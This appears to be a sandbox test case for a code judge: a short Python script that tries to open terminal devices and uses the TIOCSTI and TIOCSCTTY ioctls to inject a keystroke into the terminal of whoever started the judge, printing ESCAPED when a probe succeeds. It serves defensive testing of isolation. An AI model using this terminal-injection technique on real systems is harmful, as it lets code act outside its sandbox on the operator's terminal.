# id: S-24
# title: types into the terminal of whoever started the judge
# stage: run
# verdicts: accepted
# canaries: escaped C8
import fcntl
import os
import termios

for name in ("/dev/tty", "/dev/console", "/dev/ptmx", "/dev/pts/0", "/dev/vcs"):
    try:
        os.open(name, os.O_RDWR)
        print("ESCAPED", name)
    except OSError:
        pass
for number in range(10):
    for request, argument in ((termios.TIOCSTI, b"x"), (termios.TIOCSCTTY, 1)):
        try:
            fcntl.ioctl(number, request, argument)
            print("ESCAPED", request)
        except OSError:
            pass
print(42)
